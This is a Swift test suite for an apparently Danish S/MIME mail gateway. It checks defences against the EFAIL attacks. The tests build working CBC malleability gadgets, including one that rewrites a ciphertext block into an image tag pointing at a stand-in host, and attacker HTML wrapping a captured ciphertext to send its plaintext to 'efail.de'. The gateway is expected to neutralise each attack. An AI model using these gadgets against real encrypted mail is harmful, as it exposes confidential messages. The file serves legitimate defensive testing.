import Foundation
import Testing
@testable import SecureMail

/// EFAIL (Poddebniak et al., USENIX Security 2018): CBC malleability gadgets, direct
/// exfiltration by wrapping a captured ciphertext in attacker HTML, and the neutralisation of
/// HTML that is delivered without being verified.
@Suite struct HostileEFAILTests {
    typealias F = SMIMEFixtures
    static let mailbox = "sikkermail@gjensidige.dk"

    private func inspectAndPlan(_ bytes: [UInt8]) throws -> (MessageReport, InboundPlan) {
        let inspection = try PipelineFixtures.inspector().inspect(bytes, sender: "kunde@example.dk", recipients: [Self.mailbox])
        var mailbox = try #require(try PipelineFixtures.configuration.mailbox(Self.mailbox))
        mailbox.unverified = .deliverMarked
        let route = try #require(inspection.report.route)
        return (inspection.report, InboundPlanner.plan(inspection, mailbox: mailbox, route: route))
    }

    /// An encrypted message, parsed, with the DER of its EnvelopedData.
    private func encrypted(_ content: MIMEPart, signed: Bool) throws -> (message: MIMEPart, der: [UInt8]) {
        let customer = try F.customer
        let recipient = try F.recipient("sikkermail")
        let message = try SMIMEWriter.wrap(content, protectHeaders: false, encrypted: true) { inner in
            try SMIMEWriter.encrypt(signed ? SMIMEWriter.signDetached(inner, signer: customer) : inner, recipients: [recipient])
        }
        let parsed = try MIMEParser.parse(message.serialize())
        return (parsed, parsed.decodedBody())
    }

    private func replacingCMS(in message: MIMEPart, with der: [UInt8]) -> [UInt8] {
        var modified = message
        modified.body = .single(Base64.encode(der))
        return modified.serialize()
    }

    /// Where the AES-CBC IV and the ciphertext sit in an EnvelopedData made by SecureMail: the
    /// IV is the OCTET STRING parameter of the aes-256-cbc AlgorithmIdentifier, and the
    /// encrypted content (PKCS#7 padded, so one to sixteen bytes longer than the plaintext,
    /// rounded to blocks) ends the DER.
    private func cbcLayout(_ der: [UInt8], plaintextCount: Int) throws -> (iv: Int, ciphertext: Int) {
        let aes256CBC: [UInt8] = [0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2A, 0x04, 0x10]
        let start = try #require((0...(der.count - aes256CBC.count)).first { der[$0..<($0 + aes256CBC.count)].elementsEqual(aes256CBC) })
        return (start + aes256CBC.count, der.count - (plaintextCount / 16 + 1) * 16)
    }

    /// A flipped ciphertext byte garbles one block and flips a byte of the next. Where that
    /// lands in the signed content, the signature fails (not-verified) or the structure breaks
    /// (malformed, decrypt-failed for bad padding). Where it lands only in bytes the gateway
    /// throws away (the epilogue after the closing delimiter of the multipart/signed), what is
    /// delivered is exactly what was signed, so `verified` is then right: the test demands it
    /// only with content byte for byte the same as the unmodified message's.
    @Test(arguments: [5, 17, 40, 64, 100, 160, 250, 400])
    func flippedCiphertextIsNeverDeliveredAsVerified(fromEnd: Int) throws {
        let (message, der) = try encrypted(F.textMessage(), signed: true)
        var flipped = der
        flipped[der.count - fromEnd] ^= 0x55
        let (report, plan) = try inspectAndPlan(replacingCMS(in: message, with: flipped))
        if report.verdict == .verified {
            let (_, original) = try inspectAndPlan(message.serialize())
            let deliveredContent = try MIMEParser.parse(try #require(plan.message)).text()
            #expect(deliveredContent == (try MIMEParser.parse(try #require(original.message)).text()))
            #expect(deliveredContent == "Hej,\r\n\r\nHer er billederne.\r\n")
        } else {
            #expect([.decryptFailed, .notVerified, .malformed].contains(report.verdict), "\(report.verdict): \(report.reasons)")
        }
    }

    /// The IV is not protected: changing it changes the first plaintext block at will
    /// ("Content-Type" becomes "Content-Typx"), which removes the multipart/signed structure
    /// and with it the signature. What is left decrypts fine but is never verified.
    @Test func aCBCGadgetThatStripsTheSignatureIsNotVerified() throws {
        let (message, der) = try encrypted(F.textMessage(), signed: true)
        let plaintext = try CMS.decrypt(der, identities: [F.mailbox]).content
        #expect(Array(plaintext.prefix(12)) == Array("Content-Type".utf8))
        let (ivStart, _) = try cbcLayout(der, plaintextCount: plaintext.count)
        var gadget = der
        gadget[ivStart + 11] ^= UInt8(ascii: "e") ^ UInt8(ascii: "x")
        #expect(Array(try CMS.decrypt(gadget, identities: [F.mailbox]).content.prefix(12)) == Array("Content-Typx".utf8))
        let (report, plan) = try inspectAndPlan(replacingCMS(in: message, with: gadget))
        #expect(report.verdict == .notVerified, "\(report.reasons)")
        #expect(report.signature == .none)
        #expect(plan.action == .deliver)
        let delivered = String(decoding: try #require(plan.message), as: UTF8.self)
        #expect(delivered.contains("X-SecureMail-Verdict: not-verified"))
        #expect(delivered.contains("[Ikke verificeret]"))
    }

    /// The classic gadget: with one known plaintext block, the block before it is changed so
    /// that the known block decrypts to `<img src="//e.d/`; the secret that follows becomes
    /// the URL. Delivered unverified, the HTML can no longer load it, and the secret stays
    /// readable as text.
    @Test func aCBCGadgetThatBuildsAnExfiltrationURLIsNeutralised() throws {
        let secret = "Hemmelig: skadesnummer 4711"
        let html = MIMEPart.leaf(
            content: Array("<p>\(String(repeating: "A", count: 64))\(secret)</p>\r\n".utf8),
            contentType: ContentType(type: "text", subtype: "html", parameters: [MIMEParameter(name: "charset", value: "utf-8")]),
            transferEncoding: .sevenBit)
        var content = html
        content.header.fields = F.textMessage().header.fields.filter { !$0.name.lowercased().hasPrefix("content-") } + html.header.fields
        let (message, der) = try encrypted(content, signed: false)
        let plaintext = try CMS.decrypt(der, identities: [F.mailbox]).content
        let (ivStart, ciphertextStart) = try cbcLayout(der, plaintextCount: plaintext.count)
        let secretBytes = Array(secret.utf8)
        let secretStart = try #require((0...(plaintext.count - secretBytes.count)).first { plaintext[$0..<($0 + secretBytes.count)].elementsEqual(secretBytes) })
        // The last whole block that ends before the secret, with a whole block of A before it.
        let target = (secretStart / 16) - 1
        #expect(target >= 2 && plaintext[(16 * (target - 1))..<(16 * target)].allSatisfy { $0 == UInt8(ascii: "A") })
        let wanted = Array("<img src=\"//e.d/".utf8)
        var gadget = der
        for offset in 0..<16 {
            let known = plaintext[16 * target + offset]
            let previous = target == 0 ? ivStart + offset : ciphertextStart + 16 * (target - 1) + offset
            gadget[previous] ^= known ^ wanted[offset]
        }
        let decrypted = String(decoding: try CMS.decrypt(gadget, identities: [F.mailbox]).content, as: UTF8.self)
        #expect(decrypted.contains("<img src=\"//e.d/"), "the gadget works on the real ciphertext")

        let (report, plan) = try inspectAndPlan(replacingCMS(in: message, with: gadget))
        #expect(report.verdict == .notVerified)
        let delivered = try MIMEParser.parse(try #require(plan.message))
        let shown = try #require(delivered.text())
        #expect(!shown.contains("<img src="), "\(shown)")
        #expect(shown.contains(secret))
        #expect(delivered.contentType.mimeType == "text/html")
    }

    /// A captured ciphertext wrapped between attacker HTML parts is not decrypted at all, so
    /// the plaintext never reaches the attacker's context, and the HTML around it is neutralised.
    @Test func aCiphertextWrappedInAttackerHTMLIsNotDecrypted() throws {
        let (captured, _) = try encrypted(F.textMessage(body: "Hemmeligt indhold\r\n"), signed: true)
        var encryptedPart = captured
        encryptedPart.header.removeAll { !$0.name.lowercased().hasPrefix("content-") }
        let htmlType = ContentType(type: "text", subtype: "html")
        let before = MIMEPart.leaf(content: Array("<img src=\"http://efail.de/".utf8), contentType: htmlType, transferEncoding: .sevenBit)
        let after = MIMEPart.leaf(content: Array("\">".utf8), contentType: htmlType, transferEncoding: .sevenBit)
        var message = MIMEPart.multipart(subtype: "mixed", parts: [before, encryptedPart, after])
        message.header.fields = F.textMessage().header.fields.filter { !$0.name.lowercased().hasPrefix("content-") } + message.header.fields
        let (report, plan) = try inspectAndPlan(message.serialize())
        #expect(report.verdict == .notVerified)
        #expect(report.decrypted == false)
        #expect(report.reasons.contains { $0.contains("EFAIL") })
        let delivered = String(decoding: try #require(plan.message), as: UTF8.self)
        #expect(!delivered.contains("Hemmeligt indhold"))
        #expect(!delivered.contains("src=\"http://efail.de/"))
        #expect(delivered.contains("application/pkcs7-mime"), "the captured part stays encrypted")
    }

    /// Plain (unsigned, unencrypted) mail is not verified either: its HTML parts, wherever they
    /// sit and however they are encoded, are delivered neutralised as UTF-8, with their text.
    @Test func htmlOfPlainMailIsNeutralisedInEveryPartAndCharset() throws {
        let latin1HTML = Array("<p>K\u{F8}benhavn \u{E6}\u{F8}\u{E5}</p><img src=\"http://tracker.example/p.gif\">".unicodeScalars.map { UInt8($0.value) })
        let html = MIMEPart.leaf(
            content: latin1HTML, contentType: ContentType(type: "text", subtype: "html", parameters: [MIMEParameter(name: "charset", value: "iso-8859-1")]),
            transferEncoding: .base64, extraFields: [(name: "Content-ID", value: "<part1@example.dk>")])
        let text = MIMEPart.leaf(content: Array("København\r\n".utf8), contentType: .default, transferEncoding: .quotedPrintable)
        var message = MIMEPart.multipart(subtype: "alternative", parts: [text, html])
        message.header.fields = F.textMessage().header.fields.filter { !$0.name.lowercased().hasPrefix("content-") } + message.header.fields
        let original = message.serialize()
        let (report, plan) = try inspectAndPlan(original)
        #expect(report.verdict == .plain)
        let delivered = try MIMEParser.parse(try #require(plan.message))
        let parts = delivered.children
        #expect(parts.count == 2)
        #expect(parts.first?.serialize() == (try MIMEParser.parse(original)).children.first?.serialize(), "the text part is untouched")
        let neutralised = try #require(parts.last)
        #expect(neutralised.contentType.charset == "utf-8")
        #expect(neutralised.header.first("Content-ID")?.value.trimmingCharacters(in: .whitespaces) == "<part1@example.dk>")
        #expect(neutralised.text() == "<p>København æøå</p><img data-securemail-blocked-src=\"http://tracker.example/p.gif\">")
    }

    @Test func verifiedHTMLIsDeliveredAsTheSignerWroteIt() throws {
        let customer = try F.customer
        let recipient = try F.recipient("sikkermail")
        let body = "<p>Se <a href=\"https://gjensidige.dk/skade\">skadeanmeldelsen</a></p>\r\n"
        var content = MIMEPart.leaf(
            content: Array(body.utf8), contentType: ContentType(type: "text", subtype: "html", parameters: [MIMEParameter(name: "charset", value: "utf-8")]),
            transferEncoding: .sevenBit)
        content.header.fields = F.textMessage().header.fields.filter { !$0.name.lowercased().hasPrefix("content-") } + content.header.fields
        let message = try SMIMEWriter.wrap(content, protectHeaders: true, encrypted: true) { inner in
            try SMIMEWriter.encrypt(SMIMEWriter.signDetached(inner, signer: customer), recipients: [recipient])
        }
        let (report, plan) = try inspectAndPlan(message.serialize())
        #expect(report.verdict == .verified, "\(report.reasons)")
        let delivered = String(decoding: try #require(plan.message), as: UTF8.self)
        #expect(delivered.contains("href=\"https://gjensidige.dk/skade\""))
    }
}
